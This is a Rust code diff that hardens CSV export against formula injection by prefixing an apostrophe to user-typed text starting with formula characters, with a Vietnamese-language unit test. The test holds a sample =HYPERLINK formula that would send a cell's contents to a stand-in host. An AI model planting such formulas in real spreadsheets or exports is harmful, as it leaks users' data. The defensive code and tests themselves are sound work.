@@ -162,10 +162,24 @@ struct CsvSink<W: std::io::Write>(csv::Writer<W>);
 impl<W: std::io::Write + Send + 'static> RowSink for CsvSink<W> {
     fn row(&mut self, cells: &[Cell]) -> Result<(), ExportError> {
         for cell in cells {
-            self.0.write_field(cell.text().as_bytes())?;
+            self.0.write_field(csv_text(cell).as_bytes())?;
         }
         self.0.write_record(None::<&[u8]>)?;
         Ok(())
+    }
+}
+
+/// A cell as CSV text. Text people typed that begins like a formula (`=`, `+`, `-`, `@`, a
+/// tab or a carriage return) gets a leading apostrophe, so that a spreadsheet opening the file
+/// shows it instead of running it (`=HYPERLINK(…)` in a note could send data away). Numbers
+/// are not text: a count of -3 stays -3. XLSX cells are typed and need no such care.
+fn csv_text(cell: &Cell) -> Cow<'_, str> {
+    let text = cell.text();
+    let typed = matches!(cell, Cell::Text(_) | Cell::Shared(_));
+    if typed && text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        text
     }
 }
 
@@ -1284,6 +1298,26 @@ mod tests {
             rec.get(1),
             Some("Bà con phấn khởi, \"được mùa\"\nxuống dòng 🌾")
         );
+    }
+
+    #[test]
+    fn csv_shows_formulas_people_typed_as_text_and_keeps_numbers() {
+        for (typed, shown) in [
+            (
+                "=HYPERLINK(\"http://x/?\"&B2,\"Xem\")",
+                "'=HYPERLINK(\"http://x/?\"&B2,\"Xem\")",
+            ),
+            ("+84 912 345 678", "'+84 912 345 678"),
+            ("-bớt phí", "'-bớt phí"),
+            ("@mọi người", "'@mọi người"),
+            ("\t=1+1", "'\t=1+1"),
+            ("Bình thường = ổn", "Bình thường = ổn"),
+        ] {
+            assert_eq!(csv_text(&text(typed)), shown);
+            assert_eq!(csv_text(&Cell::Shared(typed.into())), shown);
+        }
+        assert_eq!(csv_text(&Cell::Int(-3)), "-3");
+        assert_eq!(csv_text(&Cell::Pct(-1.5)), "-1.5");
     }
 
     #[test]
